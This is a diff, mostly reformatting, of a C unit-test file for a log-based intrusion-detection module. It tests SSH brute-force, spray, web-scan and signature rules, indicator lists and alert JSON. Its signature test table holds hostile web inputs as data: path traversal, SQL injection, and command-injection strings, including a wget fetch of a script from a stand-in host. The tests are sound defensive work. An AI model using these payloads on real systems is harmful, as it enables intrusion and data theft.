@@ -1,7 +1,8 @@
+/* SPDX-License-Identifier: Apache-2.0 */
 /* test-detect.c — unit tests of the detect module: rule loading and its
- * errors, counting windows and first sightings, signatures, indicators, allowlist, caps,
- * expiry, reload and alert JSON. Events are built by hand here (spans into
- * the test strings), independent of the parsers. */
+ * errors, counting windows and first sightings, signatures, indicators,
+ * allowlist, caps, expiry, reload and alert JSON. Events are built by hand
+ * here (spans into the test strings), independent of the parsers. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -131,7 +132,8 @@ static void feed(mm_detector *d, const mm_event *ev, got *g)
     mm_detector_feed(d, ev, line, sizeof line - 1, collect, g);
 }
 
-/* ---- rule loading -------------------------------------------------------- */
+/* ---- rule loading --------------------------------------------------------
+ */
 
 static void test_default_rules_load(void **state)
 {
@@ -154,16 +156,17 @@ static void test_default_rules_load(void **state)
     mm_ruleset_free(rs);
 }
 
-static const char good_head[] = "rule x.test\n"
-                                "  kind threshold\n"
-                                "  severity low\n"
-                                "  match event.action = authentication_failure\n"
-                                "  count 3\n"
-                                "  window 1m\n"
-                                "  title.ja テスト\n"
-                                "  title.en test\n"
-                                "  advice.ja 対処\n"
-                                "  advice.en act\n";
+static const char good_head[] =
+    "rule x.test\n"
+    "  kind threshold\n"
+    "  severity low\n"
+    "  match event.action = authentication_failure\n"
+    "  count 3\n"
+    "  window 1m\n"
+    "  title.ja テスト\n"
+    "  title.en test\n"
+    "  advice.ja 対処\n"
+    "  advice.en act\n";
 
 static void test_rule_errors(void **state)
 {
@@ -192,13 +195,12 @@ static void test_rule_errors(void **state)
          "unknown key 'source.port'"},
         {"rule a.b\n  kind threshold\n  severity low\n", 1,
          "rule a.b: missing 'match'"},
-        {"rule a.b\n  severity low\n", 2,
-         "'kind' must be the first keyword"},
+        {"rule a.b\n  severity low\n", 2, "'kind' must be the first keyword"},
         {"rule a.b\n  kind signature\n  field url.original\n  pattern "
          "(abc\n",
          4, "pattern rejected by Hyperscan: Missing close parenthesis"},
-        {"rule a.b\n  kind signature\n  field url.original\n  pattern a*\n",
-         4, "pattern can match an empty string"},
+        {"rule a.b\n  kind signature\n  field url.original\n  pattern a*\n", 4,
+         "pattern can match an empty string"},
         {"rule a.b\n  kind signature\n  field source.port\n", 3,
          "unknown field 'source.port' for kind signature"},
         {"rule a.b\n  kind threshold\n  pattern abc\n", 3,
@@ -349,8 +351,8 @@ static void test_message_repeat(void **state)
 static void test_spray(void **state)
 {
     (void)state;
-    static const char *users[] = {"root", "admin", "oracle", "test", "ubuntu",
-                                  "git"};
+    static const char *users[] = {"root", "admin",  "oracle",
+                                  "test", "ubuntu", "git"};
     mm_ruleset *rs = default_rules(NULL, NULL);
     mm_detector *d;
     got g = {0};
@@ -428,8 +430,8 @@ static void test_web_scan_404(void **state)
     char path[64];
     for (int i = 0; i < 19; i++) {
         snprintf(path, sizeof path, "/missing-%d.html", i);
-        mm_event ev = web_ev(T0 + i * 2000, "198.51.100.77", path, NULL, "x",
-                             404);
+        mm_event ev =
+            web_ev(T0 + i * 2000, "198.51.100.77", path, NULL, "x", 404);
         feed(d, &ev, &g);
     }
     mm_event ev200 = web_ev(T0 + 39000, "198.51.100.77", "/", NULL, "x", 200);
@@ -484,7 +486,8 @@ static void test_portscan(void **state)
     mm_ruleset_free(rs);
 }
 
-/* ---- signatures ----------------------------------------------------------- */
+/* ---- signatures -----------------------------------------------------------
+ */
 
 typedef struct sig_case {
     const char *rule; /* expected rule, or NULL: no web.probe/attack hit */
@@ -507,13 +510,14 @@ static const sig_case sig_cases[] = {
     {"web.attack.traversal", "/static/../../../../etc/passwd", NULL, NULL},
     {"web.attack.traversal", "/download", "file=..%2f..%2fetc%2fhosts", NULL},
     {"web.attack.traversal", "/%2e%2e/%2e%2e/windows/win.ini", NULL, NULL},
-    {"web.attack.sqli", "/item.php", "id=1+UNION+SELECT+username,password+FROM+users",
-     NULL},
+    {"web.attack.sqli", "/item.php",
+     "id=1+UNION+SELECT+username,password+FROM+users", NULL},
     {"web.attack.sqli", "/login", "user=admin'%20or%201=1--", NULL},
     {"web.attack.sqli", "/news", "id=5%20AND%20SLEEP(5)", NULL},
-    {"web.attack.sqli", "/q", "x=1%20and%201=(select%201%20from%20information_schema.tables)",
-     NULL},
-    {"web.attack.cmdi", "/ping.cgi", "ip=127.0.0.1;wget%20http://198.51.100.1/x.sh", NULL},
+    {"web.attack.sqli", "/q",
+     "x=1%20and%201=(select%201%20from%20information_schema.tables)", NULL},
+    {"web.attack.cmdi", "/ping.cgi",
+     "ip=127.0.0.1;wget%20http://198.51.100.1/x.sh", NULL},
     {"web.attack.cmdi", "/shell", "cmd=$(id)", NULL},
     {"web.attack.cmdi", "/index.php", "s=`cat%20/etc/hosts`", NULL},
     {"web.attack.cmdi", "/x", "a=1|sh", NULL},
@@ -566,7 +570,8 @@ static void test_signatures(void **state)
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     for (size_t i = 0; i < sizeof sig_cases / sizeof sig_cases[0]; i++) {
         const sig_case *c = &sig_cases[i];
-        mm_event ev = web_ev(T0, "198.51.100.5", c->path, c->query, c->ua, 404);
+        mm_event ev =
+            web_ev(T0, "198.51.100.5", c->path, c->query, c->ua, 404);
         mm_line_hits h;
         mm_detector_match_line(d, &ev, "x", 1, &h);
         if (c->rule) {
@@ -575,15 +580,14 @@ static void test_signatures(void **state)
                          c->query ? "?" : "", c->query ? c->query : "",
                          c->rule, h.n);
         } else if (h.n) {
-            fail_msg("case %zu (%s): false positive %s", i, c->path,
-                     h.ids[0]);
+            fail_msg("case %zu (%s): false positive %s", i, c->path, h.ids[0]);
         }
     }
     /* an alert aggregates per rule and source */
     got g = {0};
     for (int i = 0; i < 4; i++) {
-        mm_event ev = web_ev(T0 + i * 1000, "198.51.100.6", "/.env", NULL,
-                             "curl", 404);
+        mm_event ev =
+            web_ev(T0 + i * 1000, "198.51.100.6", "/.env", NULL, "curl", 404);
         feed(d, &ev, &g);
     }
     mm_detector_flush(d, collect, &g);
@@ -649,8 +653,8 @@ static void test_signature_cache(void **state)
         {"/x", "q=%2e%2e/", "web.attack.traversal"}, /* raw and decoded hit */
         {"/x", "q=.%2e/", "web.attack.traversal"},   /* only decoded hits */
         {"/index.html", NULL, NULL},
-        {"/index.html", NULL, NULL},                 /* served from cache */
-        {"/x", "q=.%2e/", "web.attack.traversal"},   /* still found */
+        {"/index.html", NULL, NULL},               /* served from cache */
+        {"/x", "q=.%2e/", "web.attack.traversal"}, /* still found */
     };
     for (size_t i = 0; i < sizeof seq / sizeof seq[0]; i++) {
         mm_event ev = web_ev(T0, "198.51.100.5", seq[i].path, seq[i].query,
@@ -786,15 +790,15 @@ static void test_ioc(void **state)
     assert_int_equal(mm_ruleset_new(&rs), MM_OK);
     mm_err err;
     static const char bad[] = "10.0.0.1\n10.0.0.0/33\n";
-    assert_int_equal(mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad,
-                                             strlen(bad), &err),
-                     MM_EPARSE);
+    assert_int_equal(
+        mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad, strlen(bad), &err),
+        MM_EPARSE);
     assert_int_equal(err.line, 2);
     assert_non_null(strstr(err.msg, "prefix length out of range"));
     static const char bad2[] = "good.example\nnot a name\n";
-    assert_int_equal(mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad2,
-                                             strlen(bad2), &err),
-                     MM_EPARSE);
+    assert_int_equal(
+        mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad2, strlen(bad2), &err),
+        MM_EPARSE);
     assert_int_equal(err.line, 2);
     mm_ruleset_get_info(rs, &info);
     assert_int_equal(info.ioc_ips, 0);
@@ -810,11 +814,11 @@ static void test_allowlist(void **state)
     got g = {0};
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     for (int i = 0; i < 10; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.7", "root",
-                             MM_ACT_AUTH_FAILURE);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "203.0.113.7", "root", MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
-        mm_event ev2 = ssh_ev(T0 + i * 1000, "203.0.113.17", "root",
-                              MM_ACT_AUTH_FAILURE);
+        mm_event ev2 =
+            ssh_ev(T0 + i * 1000, "203.0.113.17", "root", MM_ACT_AUTH_FAILURE);
         feed(d, &ev2, &g);
     }
     mm_detector_flush(d, collect, &g);
@@ -832,7 +836,8 @@ static void test_allowlist(void **state)
     mm_ruleset_free(rs);
 }
 
-/* ---- windows: cap, expiry, reload, emit-on-open ---------------------------- */
+/* ---- windows: cap, expiry, reload, emit-on-open ----------------------------
+ */
 
 static void test_cap_eviction(void **state)
 {
@@ -872,8 +877,8 @@ static void test_expiry_log_time(void **state)
     got g = {0};
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     for (int i = 0; i < 6; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.9", "root",
-                             MM_ACT_AUTH_FAILURE);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "203.0.113.9", "root", MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
     }
     assert_int_equal(g.n, 0); /* batch mode: nothing until it closes */
@@ -911,8 +916,8 @@ static void test_emit_on_open(void **state)
     got g = {0};
     assert_int_equal(mm_detector_new(rs, &o, &d), MM_OK);
     for (int i = 0; i < 5; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.9", "root",
-                             MM_ACT_AUTH_FAILURE);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "203.0.113.9", "root", MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
     }
     assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
@@ -948,11 +953,11 @@ static void test_reload_keeps_windows(void **state)
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     mm_detector_stats st;
     for (int i = 0; i < 4; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.30", "root",
-                             MM_ACT_AUTH_FAILURE);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "203.0.113.30", "root", MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
-        mm_event ev2 = web_ev(T0 + i * 1000, "203.0.113.31", "/nx", NULL, "u",
-                              404);
+        mm_event ev2 =
+            web_ev(T0 + i * 1000, "203.0.113.31", "/nx", NULL, "u", 404);
         feed(d, &ev2, &g);
     }
     /* new ruleset: the ssh rules only, in a different order, plus one */
@@ -963,17 +968,16 @@ static void test_reload_keeps_windows(void **state)
     mm_ruleset *rs2;
     mm_err err;
     assert_int_equal(mm_ruleset_new(&rs2), MM_OK);
-    assert_int_equal(mm_ruleset_add_rules(rs2, "x.rules", only_ssh,
-                                          strlen(only_ssh), &err),
-                     MM_OK);
+    assert_int_equal(
+        mm_ruleset_add_rules(rs2, "x.rules", only_ssh, strlen(only_ssh), &err),
+        MM_OK);
     FILE *f = fopen("rules/ssh.rules", "r");
     assert_non_null(f);
     static char text[65536];
     size_t n = fread(text, 1, sizeof text, f);
     fclose(f);
-    assert_int_equal(mm_ruleset_add_rules(rs2, "rules/ssh.rules", text, n,
-                                          &err),
-                     MM_OK);
+    assert_int_equal(
+        mm_ruleset_add_rules(rs2, "rules/ssh.rules", text, n, &err), MM_OK);
     assert_int_equal(mm_ruleset_compile(rs2, &err), MM_OK);
     mm_detector_get_stats(d, &st);
     assert_int_equal(st.windows, 4);
@@ -983,8 +987,8 @@ static void test_reload_keeps_windows(void **state)
     /* the ssh.bruteforce, ssh.spray and ssh.success_after_failures windows
      * stay; web.scan's is gone */
     assert_int_equal(st.windows, 3);
-    mm_event ev = ssh_ev(T0 + 5000, "203.0.113.30", "root",
-                         MM_ACT_AUTH_FAILURE);
+    mm_event ev =
+        ssh_ev(T0 + 5000, "203.0.113.30", "root", MM_ACT_AUTH_FAILURE);
     feed(d, &ev, &g);
     mm_detector_flush(d, collect, &g);
     assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
@@ -1011,17 +1015,15 @@ static void test_prefix_key_and_dir(void **state)
     mm_ruleset *rs;
     mm_err err;
     assert_int_equal(mm_ruleset_new(&rs), MM_OK);
-    assert_int_equal(mm_ruleset_add_rules(rs, "n.rules", text, strlen(text),
-                                          &err),
-                     MM_OK);
+    assert_int_equal(
+        mm_ruleset_add_rules(rs, "n.rules", text, strlen(text), &err), MM_OK);
     assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
     mm_detector *d;
     got g = {0};
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
-    static const char *ips[] = {"203.0.113.1", "203.0.113.200", "203.0.114.1",
-                                "2001:db8:0:1::1", "2001:db8:0:2::1",
-                                "2001:db8:1::1", "203.0.113.9",
-                                "2001:db8:0:ff::2"};
+    static const char *ips[] = {
+        "203.0.113.1",     "203.0.113.200", "203.0.114.1", "2001:db8:0:1::1",
+        "2001:db8:0:2::1", "2001:db8:1::1", "203.0.113.9", "2001:db8:0:ff::2"};
     for (int i = 0; i < 8; i++) {
         mm_event ev = ssh_ev(T0 + i * 1000, ips[i], "u", MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
@@ -1143,8 +1145,8 @@ static void test_first_sighting_many_sources(void **state)
         for (int i = 0; i < N; i++) {
             snprintf(ip, sizeof ip, "10.%d.%d.%d", i >> 16, (i >> 8) & 255,
                      i & 255);
-            mm_event ev = ssh_ev(T0 + r * 10000 + i, ip, "root",
-                                 MM_ACT_AUTH_FAILURE);
+            mm_event ev =
+                ssh_ev(T0 + r * 10000 + i, ip, "root", MM_ACT_AUTH_FAILURE);
             mm_detector_feed(d, &ev, "x", 1, tally_cb, &t);
         }
         if (r == 0) {
@@ -1173,15 +1175,15 @@ static void test_first_sighting_distinct(void **state)
     got g = {0};
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     for (int i = 0; i < 4; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "192.0.2.60", users[i],
-                             MM_ACT_INVALID_USER);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "192.0.2.60", users[i], MM_ACT_INVALID_USER);
         feed(d, &ev, &g);
     }
     mm_detector_flush(d, collect, &g);
     assert_int_equal(count_rule(&g, "ssh.spray"), 0);
     /* the fifth name: five distinct, the first one from the record */
-    mm_event ev = ssh_ev(T0 + 4000, "192.0.2.60", users[4],
-                         MM_ACT_INVALID_USER);
+    mm_event ev =
+        ssh_ev(T0 + 4000, "192.0.2.60", users[4], MM_ACT_INVALID_USER);
     feed(d, &ev, &g);
     mm_detector_flush(d, collect, &g);
     assert_int_equal(count_rule(&g, "ssh.spray"), 1);
@@ -1196,8 +1198,8 @@ static void test_first_sighting_distinct(void **state)
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     static const char *again[] = {"root", "root", "admin", "oracle", "test"};
     for (int i = 0; i < 5; i++) {
-        ev = ssh_ev(T0 + i * 1000, "192.0.2.61", again[i],
-                    MM_ACT_AUTH_FAILURE);
+        ev =
+            ssh_ev(T0 + i * 1000, "192.0.2.61", again[i], MM_ACT_AUTH_FAILURE);
         feed(d, &ev, &g);
     }
     mm_detector_flush(d, collect, &g);
@@ -1418,7 +1420,8 @@ static void test_first_sighting_expiry_cap_reload(void **state)
     mm_ruleset_free(rs);
 }
 
-/* ---- JSON ----------------------------------------------------------------- */
+/* ---- JSON -----------------------------------------------------------------
+ */
 
 static void test_alert_json(void **state)
 {
@@ -1428,8 +1431,8 @@ static void test_alert_json(void **state)
     got g = {0};
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     for (int i = 0; i < 7; i++) {
-        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.66", "root",
-                             MM_ACT_AUTH_FAILURE);
+        mm_event ev =
+            ssh_ev(T0 + i * 1000, "203.0.113.66", "root", MM_ACT_AUTH_FAILURE);
         static const char line[] =
             "Nov 14 22:13:20 host sshd[1]: Failed password for root from "
             "203.0.113.66 port 4242 ssh2 \"quoted\"\x01";
@@ -1450,7 +1453,8 @@ static void test_alert_json(void **state)
     assert_string_equal(json_string_value(json_object_get(j, "@timestamp")),
                         "2023-11-14T22:13:26.000Z");
     json_t *e = json_object_get(j, "event");
-    assert_string_equal(json_string_value(json_object_get(e, "kind")), "alert");
+    assert_string_equal(json_string_value(json_object_get(e, "kind")),
+                        "alert");
     assert_int_equal(json_integer_value(json_object_get(e, "severity")), 2);
     assert_string_equal(json_string_value(json_object_get(e, "dataset")),
                         "sshd");
@@ -1466,11 +1470,12 @@ static void test_alert_json(void **state)
                         "SSH password brute force");
     assert_string_equal(json_string_value(json_object_get(r, "category")),
                         "authentication");
-    assert_string_equal(json_string_value(json_object_get(
-                            json_object_get(j, "source"), "ip")),
-                        "203.0.113.66");
+    assert_string_equal(
+        json_string_value(json_object_get(json_object_get(j, "source"), "ip")),
+        "203.0.113.66");
     const char *msg = json_string_value(json_object_get(j, "message"));
-    assert_non_null(strstr(msg, "SSHへのパスワード総当たり攻撃 / SSH password"));
+    assert_non_null(
+        strstr(msg, "SSHへのパスワード総当たり攻撃 / SSH password"));
     json_t *m = json_object_get(j, "mamori");
     assert_int_equal(json_integer_value(json_object_get(m, "count")), 7);
     assert_string_equal(json_string_value(json_object_get(m, "key")),
@@ -1487,9 +1492,10 @@ static void test_alert_json(void **state)
     json_t *th = json_object_get(j, "threat");
     assert_string_equal(json_string_value(json_object_get(th, "framework")),
                         "MITRE ATT&CK");
-    assert_string_equal(json_string_value(json_array_get(json_object_get(
-                            json_object_get(th, "technique"), "id"), 0)),
-                        "T1110.001");
+    assert_string_equal(
+        json_string_value(json_array_get(
+            json_object_get(json_object_get(th, "technique"), "id"), 0)),
+        "T1110.001");
     assert_null(json_object_get(th, "indicator"));
     json_decref(j);
 
@@ -1509,7 +1515,7 @@ static void test_alert_json(void **state)
     /* a full buffer fails cleanly and leaves the buffer as it was */
     mm_buf small;
     mm_buf_init(&small, 100);
-    assert_int_equal(mm_buf_puts(&small, "[") , MM_OK);
+    assert_int_equal(mm_buf_puts(&small, "["), MM_OK);
     assert_int_equal(mm_alert_to_json(bf, &small), MM_ELIMIT);
     assert_int_equal(small.len, 1);
     mm_buf_free(&small);
@@ -1518,7 +1524,8 @@ static void test_alert_json(void **state)
     mm_ruleset_free(rs);
 }
 
-/* ---- a million indicators -------------------------------------------------- */
+/* ---- a million indicators --------------------------------------------------
+ */
 
 static long rss_kb(void)
 {
@@ -1548,11 +1555,12 @@ static void test_million_ips(void **state)
         uint32_t ip = (uint32_t)(i * 2654435761u) ^ (x >> 16);
         ip = 0x01000000u + ip % 0xdf000000u; /* 1.0.0.0 .. 223.x */
         if (i % 10 == 0)
-            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.0/24\n", ip >> 24,
-                                   ip >> 16 & 255, ip >> 8 & 255);
+            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.0/24\n",
+                                    ip >> 24, ip >> 16 & 255, ip >> 8 & 255);
         else
-            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.%u\n", ip >> 24,
-                                   ip >> 16 & 255, ip >> 8 & 255, ip & 255);
+            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.%u\n",
+                                    ip >> 24, ip >> 16 & 255, ip >> 8 & 255,
+                                    ip & 255);
     }
     len += (size_t)snprintf(text + len, cap - len, "9.9.9.9\n");
     struct timespec t0, t1;
@@ -1561,9 +1569,8 @@ static void test_million_ips(void **state)
     mm_err err;
     assert_int_equal(mm_ruleset_new(&rs), MM_OK);
     assert_int_equal(mm_ruleset_add_default_rules(rs, &err), MM_OK);
-    assert_int_equal(mm_ruleset_add_ioc_text(rs, "big", "big.txt", text, len,
-                                             &err),
-                     MM_OK);
+    assert_int_equal(
+        mm_ruleset_add_ioc_text(rs, "big", "big.txt", text, len, &err), MM_OK);
     assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
     clock_gettime(CLOCK_MONOTONIC, &t1);
     free(text);
@@ -1574,12 +1581,13 @@ static void test_million_ips(void **state)
     assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
     mm_detector_stats st;
     mm_detector_get_stats(d, &st);
-    print_message("1M indicators: %zu entries after dedup, load+compile %.3f s, "
-                  "set memory %zu KB, RSS +%ld KB\n",
-                  info.ioc_ips,
-                  (double)(t1.tv_sec - t0.tv_sec) +
-                      (double)(t1.tv_nsec - t0.tv_nsec) / 1e9,
-                  st.memory / 1024, after - before);
+    print_message(
+        "1M indicators: %zu entries after dedup, load+compile %.3f s, "
+        "set memory %zu KB, RSS +%ld KB\n",
+        info.ioc_ips,
+        (double)(t1.tv_sec - t0.tv_sec) +
+            (double)(t1.tv_nsec - t0.tv_nsec) / 1e9,
+        st.memory / 1024, after - before);
     assert_true(info.ioc_ips > 990000);
     mm_event ev;
     memset(&ev, 0, sizeof ev);
